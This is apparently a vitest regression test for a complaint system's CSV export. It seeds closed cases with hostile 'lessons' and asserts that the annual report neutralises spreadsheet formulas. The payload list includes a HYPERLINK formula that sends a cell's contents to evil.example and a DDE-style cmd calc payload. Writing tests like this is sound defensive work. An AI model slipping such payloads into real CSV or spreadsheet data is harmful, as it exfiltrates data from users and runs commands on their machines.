import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createTestContext, exampleComplaint, type TestContext } from '../helpers.js';
import { toCsv } from '../../src/server/http/csv.js';

// CSV formula injection: a lesson starting with "=" came out of the annual report's CSV as a live
// spreadsheet formula. Every CSV is now written by csv-stringify with formulas neutralised.
let t: TestContext;
const year = new Date().getUTCFullYear() - 1;
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3 leert ons iets',
  '@SUM(A1:A9)',
];

beforeAll(async () => {
  t = await createTestContext();
  for (const [i, lesson] of HOSTILE.entries()) {
    const r = await t.services.intake.register(
      {
        ...exampleComplaint,
        channel: 'web',
        receivedAt: new Date(Date.UTC(year, 3, 1 + i, 10)).toISOString(),
      } as never,
      { actorId: null },
    );
    await t.database.db
      .updateTable('complaint_case')
      .set({
        status: 'closed',
        outcome: 'upheld',
        lessons: lesson,
        closed_at: new Date(Date.UTC(year, 4, 1)),
      })
      .where('id', '=', r.response.id)
      .execute();
  }
});
afterAll(async () => t?.close());

describe('CSV never carries a live formula (CSV formula injection)', () => {
  it('the annual report CSV: lessons that start with = + - @ are text', async () => {
    const manager = await t.staff('manager');
    const res = await t.app.inject({
      url: `/api/v1/reports/annual?year=${year}&format=csv`,
      headers: manager.auth,
    });
    expect(res.statusCode).toBe(200);
    const rows: string[][] = parse(res.body);
    const lessons = rows.filter((r) => r[0] === 'lesson').map((r) => r[2]!);
    expect(lessons.length).toBeGreaterThan(0);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(lessons.some((l) => l.startsWith("'=HYPERLINK("))).toBe(true);
  });

  it('toCsv quotes separators and line breaks and keeps numbers as numbers', () => {
    const csv = toCsv([['a,b', 'regel 1\nregel 2', -5, null, '"quoted"', '\tTAB', '=1+1']]);
    expect(parse(csv)).toEqual([['a,b', 'regel 1\nregel 2', '-5', '', '"quoted"', "'\tTAB", "'=1+1"]]);
  });
});
